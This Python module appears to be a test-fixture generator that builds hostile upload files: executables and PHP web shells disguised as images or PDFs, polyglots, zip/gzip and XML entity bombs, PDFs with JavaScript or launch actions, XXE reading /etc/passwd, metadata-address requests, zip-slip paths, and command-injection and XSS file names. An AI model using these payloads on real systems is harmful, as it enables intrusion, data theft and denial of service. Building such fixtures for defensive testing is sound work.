"""Files that lie, break, swell or run, made byte by byte, and small honest ones to set beside them."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from functools import cache

MB = 1 << 20
SCRIPT = b"<script>alert(1)</script>"
GPS_MARK = b"GPS-51.5074N"


@dataclass(frozen=True, slots=True)
class HostileFile:
    """One file as it would be sent."""

    name: str
    content: bytes
    about: str


# --- Honest files -------------------------------------------------------------------------------------------


def pdf(*more: bytes, catalog: bytes = b"", trailer: bytes = b"") -> bytes:
    """A page that says “Hello”; `more` are objects from number 6 on, the others go into the dictionaries."""
    words = b"BT /F1 12 Tf 20 50 Td (Hello) Tj ET"
    objects = (
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        stream(words),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *more,
    )
    made, offsets = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", []
    for number, each in enumerate(objects, start=1):
        offsets.append(len(made))
        made += b"%d 0 obj\n%b\nendobj\n" % (number, each)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    count = len(objects) + 1
    return (
        made
        + b"xref\n0 %d\n0000000000 65535 f \n%b" % (count, table)
        + (b"trailer\n<< /Size %d /Root 1 0 R %b >>\nstartxref\n%d\n%%%%EOF\n" % (count, trailer, len(made)))
    )


def stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(data), more, data)


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, packed: bytes, *more: bytes, bits: int = 8) -> bytes:
    """A grey picture; `packed` is its rows, already compressed."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, bits, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(more) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def jpeg(*segments: bytes, side: int = 8) -> bytes:
    """A mid-grey baseline square, eight by eight unless its header is told to lie."""
    tables = bytes.fromhex(
        "ffdb004300" + "01" * 64
        + "ffc40014000100000000000000000000000000000000"  # one code, “no difference”
        + "ffc40014100100000000000000000000000000000000"  # one code, “end of block”
    )  # fmt: skip
    frame = bytes.fromhex("ffc0000b08") + struct.pack(">HH", side, side) + bytes.fromhex("01011100")
    scan = bytes.fromhex("ffda0008010100003f00" + "3f" + "ffd9")
    start = bytes.fromhex("ffd8ffe000104a46494600010100000100010000")
    return start + b"".join(segments) + tables + frame + scan


def segment(kind: int, data: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, kind, len(data) + 2) + data


def exif(place: bytes) -> bytes:
    """What a camera adds: a TIFF header, a directory, and within it the directory of the place."""
    text = place + b"\0"
    first = struct.pack(">HHHIII", 1, 0x8825, 4, 1, 26, 0)
    where = struct.pack(">H", 2) + struct.pack(">HHI4s", 0, 1, 4, b"\2\3\0\0")
    where += struct.pack(">HHII", 0x12, 2, len(text), 56) + struct.pack(">I", 0)
    return segment(0xE1, b"Exif\0\0" + b"MM\0*" + struct.pack(">I", 8) + first + where + text)


def zipped(entries: dict[str, bytes], *, packed: bool = True) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, content in entries.items():
            how = zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED
            archive.writestr(zipfile.ZipInfo(name), content, compress_type=how)
    return made.getvalue()


XML = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
OFFICE = b"http://schemas.openxmlformats.org/"
WORD = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def relation(kind: bytes, target: bytes, more: bytes = b"") -> bytes:
    of = b'<Relationship Id="rId1" Type="%bofficeDocument/2006/relationships/%b" Target="%b"%b/>' % (
        OFFICE, kind, target, more,
    )  # fmt: skip
    return XML + b'<Relationships xmlns="%bpackage/2006/relationships">%b</Relationships>' % (OFFICE, of)


def docx(
    more: dict[str, bytes] | None = None,
    *,
    text: bytes = b"Hello",
    doctype: bytes = b"",
    kind: bytes = WORD,
) -> bytes:
    types = b'<Types xmlns="%bpackage/2006/content-types">' % OFFICE
    types += (
        b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    )
    types += b'<Default Extension="xml" ContentType="application/xml"/>'
    types += b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    types += b'<Override PartName="/word/document.xml" ContentType="%b"/></Types>' % kind
    body = b"<w:body><w:p><w:r><w:t>%b</w:t></w:r></w:p></w:body>" % text
    entries = {
        "[Content_Types].xml": XML + types,
        "_rels/.rels": relation(b"officeDocument", b"word/document.xml"),
        "word/document.xml": XML
        + doctype
        + b'<w:document xmlns:w="%bwordprocessingml/2006/main">%b</w:document>' % (OFFICE, body),
    }
    return zipped(entries | (more or {}))


def small_pdf() -> bytes:
    return pdf()


def small_png() -> bytes:
    return png(2, 2, zlib.compress(b"\0\xff\x80\0\x80\xff"))


def small_jpeg() -> bytes:
    """It says where it was taken, as a telephone’s pictures do."""
    return jpeg(exif(GPS_MARK))


def small_docx() -> bytes:
    return docx()


def small_wav() -> bytes:
    """A tenth of a second of silence."""
    silence = b"\x80" * 800
    form = struct.pack("<HHIIHH", 1, 1, 8000, 8000, 1, 8)
    chunks = b"WAVEfmt " + struct.pack("<I", len(form)) + form + b"data" + struct.pack("<I", 800) + silence
    return b"RIFF" + struct.pack("<I", len(chunks)) + chunks


# --- Bombs --------------------------------------------------------------------------------------------------


@cache
def nothings(size: int) -> bytes:
    """That many zero bytes, deflated: a megabyte flushed in full may be repeated as it is, which is quick."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = packer.compress(bytes(MB)) + packer.flush(zlib.Z_FULL_FLUSH)
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    return one * (size // MB) + last.compress(bytes(size % MB)) + last.flush()


def flate(size: int) -> bytes:
    """The same as a zlib stream. The checksum of zero bytes is known without making them."""
    return b"\x78\xda" + nothings(size) + struct.pack(">I", (size % 65521) << 16 | 1)


@cache
def crc_of_nothings(size: int) -> int:
    crc, block = 0, bytes(MB)
    for _ in range(size // MB):
        crc = zlib.crc32(block, crc)
    return zlib.crc32(bytes(size % MB), crc)


def gzip_bomb(size: int) -> bytes:
    head = bytes.fromhex("1f8b0800000000000203")
    return head + nothings(size) + struct.pack("<II", crc_of_nothings(size), size)


def zip_of_nothings(names: list[str], size: int) -> bytes:
    """Every name points at the same compressed bytes, so the archive swells by more than deflate allows."""
    data, crc = nothings(size), crc_of_nothings(size)
    fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0x21, crc, len(data), size)
    first = names[0].encode()
    local = b"PK\3\4" + fields + struct.pack("<HH", len(first), 0) + first + data
    central = b"".join(
        b"PK\1\2"
        + struct.pack("<H", 20)
        + fields
        + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0)
        + name
        for name in map(str.encode, names)
    )
    end = struct.pack("<HHHHIIH", 0, 0, len(names), len(names), len(central), len(local), 0)
    return local + central + b"PK\5\6" + end


def nested_zip(depth: int) -> bytes:
    """Ten of the same within each, down to a megabyte."""
    inner = zip_of_nothings(["0.bin"], MB)
    for _ in range(depth):
        inner = zipped({f"{number}.zip": inner for number in range(10)})
    return inner


def entity_bomb(name: bytes) -> bytes:
    made = b'<!DOCTYPE %b [<!ENTITY a0 "lol">' % name
    for number in range(1, 10):
        made += b'<!ENTITY a%d "%b">' % (number, b"&a%d;" % (number - 1) * 10)
    return made + b"]>"


# --- Programs and scripts -----------------------------------------------------------------------------------


def windows_program() -> bytes:
    stub = b"MZ" + bytes(58) + struct.pack("<I", 64)
    return stub + b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 0, 0, 0, 0, 0, 2) + bytes(64)


def linux_program() -> bytes:
    head = struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 0, 64, 0, 0)
    return b"\x7fELF\2\1\1" + bytes(9) + head


def svg() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"


def html() -> bytes:
    return b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"


def old_word() -> bytes:
    return bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504) + "_VBA_PROJECT".encode("utf-16-le") + bytes(200)


def virus_test() -> bytes:
    """The EICAR string, joined as it runs, so that no scanner finds it in this file or its compiled form."""
    parts = (b"X5O!P%@AP[4\\PZX54(P^)", b"7CC)7}$EIC", b"AR-STANDARD-ANTI", b"VIRUS-TEST-FILE!$H+H*")
    return b"".join(parts)


def gif(width: int = 1, height: int = 1) -> bytes:
    screen = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    return screen + b"," + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\2\2\x44\1\0;"


def gif_and_script() -> bytes:
    """`GIF89a/*…*/=1;alert(1)` is a program to a browser: the width of the picture opens the comment."""
    width = int.from_bytes(b"/*", "little")
    return gif(width, 1) + b"*/=1;alert(1);"


def damaged(content: bytes, at: int) -> bytes:
    """The same with one byte changed."""
    return content[:at] + bytes([content[at] ^ 0xFF]) + content[at + 1 :]


def with_flag(archive: bytes, flag: int) -> bytes:
    """The same archive with a bit set in the flags of its first entry, in both places that hold them."""
    made = bytearray(archive)
    made[6] |= flag
    made[archive.index(b"PK\1\2") + 8] |= flag
    return bytes(made)


def liars() -> list[HostileFile]:
    return [
        HostileFile("holiday.jpg", windows_program(), "Windows program named as a JPEG"),
        HostileFile("letter.pdf", windows_program(), "Windows program named as a PDF"),
        HostileFile("letter-2.pdf", linux_program(), "Linux program named as a PDF"),
        HostileFile("plan.png", linux_program(), "Linux program named as a PNG"),
        HostileFile("page.jpg", html(), "HTML named as a JPEG"),
        HostileFile("page.pdf", html(), "HTML named as a PDF"),
        HostileFile("shell.jpg", b"<?php system($_GET['c']); ?>", "PHP named as a JPEG"),
        HostileFile(
            "shell.png", b"\x89PNG\r\n\x1a\n<?php system($_GET['c']); ?>", "PHP after a PNG signature"
        ),
        HostileFile("drawing.png", svg(), "SVG with a script named as a PNG"),
        HostileFile("run.pdf", b"#!/bin/sh\nid\n", "shell script named as a PDF"),
        HostileFile("run.jpg", b"@echo off\r\ncalc.exe\r\n", "batch script named as a JPEG"),
        HostileFile("photo.jpg", small_pdf(), "PDF named as a JPEG"),
        HostileFile("scan.pdf", small_jpeg(), "JPEG named as a PDF"),
        HostileFile("letter.docx", zipped({"hello.txt": b"Hello"}), "plain zip named as a docx"),
        HostileFile("voice.mp3", html(), "HTML named as a recording"),
        HostileFile("notes.txt", html(), "HTML named as text"),
        HostileFile("notes-2.txt", bytes(range(256)) * 4, "every byte there is named as text"),
        HostileFile("notes-3.txt", "<script>alert(1)</script>".encode("utf-7"), "UTF-7 script named as text"),
        HostileFile("figures.csv", b"name,sum\r\n=cmd|' /C calc'!A0,@SUM(1)\r\n", "CSV with formulas"),
    ]


def polyglots() -> list[HostileFile]:
    archive = zipped({"hello.js": b"alert(1)"})
    return [
        HostileFile("cat.gif", gif_and_script(), "GIF that is also a script"),
        HostileFile("both.pdf", small_pdf() + archive, "PDF that is also a zip"),
        HostileFile("comment.jpg", jpeg(segment(0xFE, html())), "JPEG with HTML in its comment"),
        HostileFile(
            "comment.png",
            png(1, 1, zlib.compress(b"\0\0"), chunk(b"tEXt", b"Comment\0" + html())),
            "PNG with HTML in its text",
        ),
        HostileFile("trailing.png", small_png() + archive, "PNG with a zip after its end"),
        HostileFile("trailing.jpg", small_jpeg() + windows_program(), "JPEG with a program after its end"),
        HostileFile("late.pdf", html().ljust(900) + small_pdf(), "HTML with a PDF header after 900 bytes"),
        HostileFile("first.docx", html() + small_docx(), "HTML with a docx after it"),
    ]


def broken() -> list[HostileFile]:
    archive, document = zipped({"hello.txt": b"Hello" * 50}), small_docx()
    loop = small_pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")
    wide = small_wav()[:4] + b"\xff\xff\xff\xff" + small_wav()[8:]
    return [
        HostileFile("nothing.pdf", b"", "no bytes at all"),
        HostileFile("one.pdf", b"%", "one byte"),
        HostileFile("zeros.jpg", bytes(4096), "only zero bytes"),
        HostileFile("header.pdf", b"%PDF-1.7\n", "PDF that ends after its header"),
        HostileFile("half.pdf", small_pdf()[:300], "PDF cut in half"),
        HostileFile(
            "table.pdf", small_pdf().replace(b"0000000", b"9999999"), "PDF whose table points past its end"
        ),
        HostileFile("loop.pdf", loop, "PDF whose pages hold themselves"),
        HostileFile("deep.pdf", pdf(b"[" * 20_000 + b"]" * 20_000), "PDF with arrays nested deep"),
        HostileFile("half.png", small_png()[:40], "PNG cut in half"),
        HostileFile("sum.png", damaged(small_png(), 30), "PNG with a wrong checksum"),
        HostileFile("chunk.png", small_png()[:33] + b"\xff\xff\xff\xffIDAT", "PNG with an endless chunk"),
        HostileFile("start.jpg", b"\xff\xd8\xff", "JPEG of three bytes"),
        HostileFile("half.jpg", small_jpeg()[:-30], "JPEG cut short"),
        HostileFile("segment.jpg", b"\xff\xd8\xff\xe1\xff\xffExif\0\0", "JPEG whose EXIF runs past its end"),
        HostileFile("place.jpg", damaged(small_jpeg(), 39), "JPEG with damaged EXIF"),
        HostileFile("half.zip", archive[:40], "zip without its directory"),
        HostileFile("sum.zip", damaged(archive, archive.index(b"PK\1\2") + 16), "zip with a wrong checksum"),
        HostileFile("half.docx", document[: len(document) // 2], "docx cut in half"),
        HostileFile(
            "damaged.docx", damaged(document, document.index(b"PK\1\2") + 45), "docx with a damaged directory"
        ),
        HostileFile("long.wav", wide, "recording that says it is 4 GB"),
        HostileFile("box.heic", b"\xff\xff\xff\xffftypheic" + bytes(16), "HEIC with an endless box"),
    ]


def bombs() -> list[HostileFile]:
    # The depth of one bit makes rows of 2,501 bytes: 50 MB in all, from 50 KB.
    grey = png(20_000, 20_000, flate(2_501 * 20_000), bits=1)
    swollen = stream(flate(100 * MB), b"/Filter /FlateDecode")
    twice = zlib.compress(flate(100 * MB), 9)
    profile = chunk(b"iCCP", b"x\0\0" + flate(50 * MB))
    return [
        HostileFile(
            "huge.png", png(60_000, 60_000, zlib.compress(b"\0\0")), "PNG of 60000 by 60000 by its header"
        ),
        HostileFile("grey.png", grey, "PNG that unpacks to 400 million pixels"),
        HostileFile(
            "profile.png", png(1, 1, zlib.compress(b"\0\0"), profile), "PNG with a colour profile of 50 MB"
        ),
        HostileFile("huge.jpg", jpeg(side=65_500), "JPEG of 65500 by 65500 by its header"),
        HostileFile("huge.gif", gif(65_535, 65_535), "GIF of 65535 by 65535 by its header"),
        HostileFile("bomb.gz", gzip_bomb(100 * MB), "gzip of 100 MB"),
        HostileFile(
            "bomb-2.gz", gzip.compress(gzip_bomb(100 * MB), 9, mtime=0), "gzip within gzip of 100 MB"
        ),
        HostileFile("bomb.zip", zip_of_nothings(["0.bin"], 100 * MB), "zip of 100 MB"),
        HostileFile(
            "overlap.zip",
            zip_of_nothings([f"{n}.bin" for n in range(100)], MB),
            "zip of a few KB whose hundred entries are one",
        ),
        HostileFile("nested.zip", nested_zip(3), "zips within zips, a thousand megabytes"),
        HostileFile(
            "many.zip", zipped({f"{n}.txt": b"" for n in range(2_000)}, packed=False), "zip of 2000 entries"
        ),
        HostileFile(
            "bomb.docx", zip_of_nothings(["word/document.xml"], 100 * MB), "docx whose words are 100 MB"
        ),
        HostileFile(
            "bomb.pdf", pdf(swollen).replace(b"/Contents 4 0", b"/Contents 6 0"), "PDF with a page of 100 MB"
        ),
        HostileFile(
            "bomb-2.pdf",
            pdf(stream(twice, b"/Filter [/FlateDecode /FlateDecode]")),
            "PDF of a few KB packed twice",
        ),
        HostileFile(
            "lol.docx", docx(doctype=entity_bomb(b"w:document"), text=b"&a9;"), "docx with an entity bomb"
        ),
        HostileFile("lol.svg", entity_bomb(b"svg") + b"<svg>&a9;</svg>", "SVG with an entity bomb"),
    ]


def active() -> list[HostileFile]:
    script = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    launch = b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"
    calls = b"<< /S /URI /URI (http://169.254.169.254/) >>"
    inside = b"/Names << /EmbeddedFiles << /Names [(run.exe) 6 0 R] >> >>"
    spec = b"<< /Type /Filespec /F (run.exe) /EF << /F 7 0 R >> >>"
    locked = b"/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <%b> /U <%b> >> /ID [<00> <00>]" % (
        b"41" * 32, b"42" * 32,
    )  # fmt: skip
    names = b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>"
    form = b"/AcroForm << /Fields [] /XFA 6 0 R >>"
    macro = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    outside = relation(b"attachedTemplate", b"http://169.254.169.254/x.dotm", b' TargetMode="External"')
    entity = b'<!DOCTYPE w:document [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return [
        HostileFile("script.pdf", pdf(script, catalog=names), "PDF with a JavaScript"),
        HostileFile("open.pdf", pdf(script, catalog=b"/OpenAction 6 0 R"), "PDF with a script as it opens"),
        HostileFile(
            "hidden.pdf",
            pdf(script.replace(b"JavaScript", b"J#61vaScript"), catalog=b"/Open#41ction 6 0 R"),
            "PDF with a script whose name is disguised",
        ),
        HostileFile("launch.pdf", pdf(launch, catalog=b"/OpenAction 6 0 R"), "PDF that launches a program"),
        HostileFile("call.pdf", pdf(calls, catalog=b"/AA << /WC 6 0 R >>"), "PDF that calls an address"),
        HostileFile(
            "inside.pdf",
            pdf(spec, stream(windows_program(), b"/Type /EmbeddedFile"), catalog=inside),
            "PDF with a program inside",
        ),
        HostileFile("locked.pdf", pdf(trailer=locked), "PDF that is encrypted"),
        HostileFile(
            "form.pdf", pdf(stream(b"<xdp>" + SCRIPT + b"</xdp>"), catalog=form), "PDF with an XFA form"
        ),
        HostileFile("macro.docx", docx({"word/vbaProject.bin": old_word()}), "docx with a macro"),
        HostileFile("macro.docm", docx({"word/vbaProject.bin": old_word()}, kind=macro), "docm with a macro"),
        HostileFile("macro.doc", old_word(), "old Word document with a macro"),
        HostileFile(
            "template.docx", docx({"word/_rels/settings.xml.rels": outside}), "docx with an outside template"
        ),
        HostileFile("entity.docx", docx(doctype=entity, text=b"&e;"), "docx with an outside entity"),
        HostileFile(
            "object.docx",
            docx({"word/embeddings/oleObject1.bin": windows_program()}),
            "docx with a program inside",
        ),
        HostileFile(
            "slip.docx", docx({"../../../../tmp/slip.txt": b"out"}), "docx with an entry outside itself"
        ),
        HostileFile(
            "slip.zip", zipped({"/etc/cron.d/x": b"x", "..\\..\\x": b"x"}), "zip with entries outside itself"
        ),
        HostileFile("locked.zip", with_flag(zipped({"hello.txt": b"Hello"}), 1), "zip that is encrypted"),
        HostileFile("script.svg", svg(), "SVG with a script"),
        HostileFile("page.html", html(), "HTML with a script"),
        HostileFile(
            "page.xhtml", b'<html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>", "XHTML"
        ),
        HostileFile("run.hta", html(), "HTML application"),
        HostileFile("letter.rtf", b"{\\rtf1{\\object\\objdata 0105}}", "RTF with an object"),
        HostileFile("program.exe", windows_program(), "Windows program by its own name"),
        HostileFile("eicar.txt", virus_test(), "virus test string"),
        HostileFile("eicar.pdf", virus_test(), "virus test string named as a PDF"),
        HostileFile("eicar.zip", zipped({"eicar.com": virus_test()}), "virus test string in a zip"),
        HostileFile(
            "eicar.docx", docx({"word/media/eicar.com": virus_test()}), "virus test string in a docx"
        ),
    ]


NAMES: dict[str, str] = {
    "name that climbs": "../../../../etc/passwd.pdf",
    "name that climbs by backslashes": "..\\..\\..\\windows\\x.pdf",
    "name that climbs by percents": "..%2f..%2fetc%2fpasswd.pdf",
    "absolute name": "/etc/cron.d/x.pdf",
    "absolute Windows name": "C:\\Windows\\x.pdf",
    "name on a network": "\\\\example.org\\share\\x.pdf",
    "name with a NUL": "letter.php\x00.pdf",
    "name with a newline": "letter\r\nX-Injected: yes\r\n.pdf",
    "name with a tab and an escape": "let\tter\x1b[31m.pdf",
    "name of 300 letters": "x" * 296 + ".pdf",
    "name of 300 letters of two bytes": "ŵ" * 296 + ".pdf",
    "name written from the right": "letter\u202efdp.exe.pdf",
    "name with zero width": "let\u200bter\ufeff.pdf",
    "name in other letters": "Cwyn – Łukasz’s 苦情 شكوى 👩‍👧.pdf",
    "name with combining marks": "Z" + "\u0301" * 100 + ".pdf",
    "reserved Windows name": "CON.pdf",
    "reserved Windows name of a port": "com1.pdf",
    "Windows name with a stream": "letter.pdf::$DATA",
    "name of one dot": ".",
    "name of two dots": "..",
    "name of many dots": "......",
    "name that is empty": "",
    "name that is a space": " ",
    "name that is only an ending": ".pdf",
    "name of a settings file": ".htaccess",
    "name without an ending": "letter",
    "name with a trailing dot": "letter.pdf.",
    "name with a trailing space": "letter.pdf ",
    "name with a leading dash": "-rf.pdf",
    "name with quotes": "a\"b'c`d.pdf",
    "name with semicolons": 'letter.pdf; filename="run.exe"',
    "name with a command": "$(id);`id`|id&.pdf",
    "name with percents": "%00%0d%0a%s%n%2e.pdf",
    "name with a tag": "<img src=x onerror=alert(1)>.pdf",
    "name with a template": "{{7*7}}{% raw %}.pdf",
    "name that is a formula": "=1+1.pdf",
    "name with two endings": "letter.pdf.exe",
    "name with two endings the other way": "letter.php.pdf",
    "name in capitals": "LETTER.PDF",
    "name with an ending in fullwidth": "letter．ｐｄｆ",
}

FILES: tuple[HostileFile, ...] = (
    *liars(),
    *polyglots(),
    *broken(),
    *bombs(),
    *active(),
    *(HostileFile(name, small_pdf(), about) for about, name in NAMES.items()),
)
